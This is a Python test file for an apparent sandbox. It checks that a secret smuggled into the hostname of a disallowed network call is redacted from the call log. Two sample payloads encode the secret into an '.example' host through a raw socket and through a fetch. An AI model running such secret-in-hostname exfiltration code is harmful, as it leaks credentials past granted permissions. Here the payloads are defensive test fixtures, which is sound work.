"""Write a secret into the log as the name of a host that was not granted: which hosts a call asked for is kept there."""

from pathlib import Path

import pytest

from skillpod.model.capability import NetworkAsk, Permissions
from skillpod.sandbox.disclosed import Disclosed
from tests.escapes.granted import VALUE, reached, secrets

STOPPED_BY = ("what was handed over is taken out of what the log keeps of a call's hosts",)
BODIES = (
    "import socket\ntry:\n    socket.create_connection((ctx.secret('OWN') + '.example', 443))\nexcept PermissionError:\n    pass",
    "try:\n    ctx.fetch(f\"https://{ctx.secret('OWN').upper()}.example/\")\nexcept FetchError:\n    pass",
)
_GRANTS = Permissions(network=frozenset({NetworkAsk("granted.example", (443,), "public")}), secrets=frozenset({"OWN"}))


def in_the_jail(folder: Path) -> None:
    for body in BODIES:
        heard = reached(body, secrets(folder, OWN=None), _GRANTS)
        assert "[secret OWN].example:443" in heard
        assert VALUE not in heard


def without_the_wall(folder: Path) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Disclosed, "add", lambda self, secret: None)
        for body in BODIES:
            assert VALUE in reached(body, secrets(folder, OWN=None), _GRANTS)
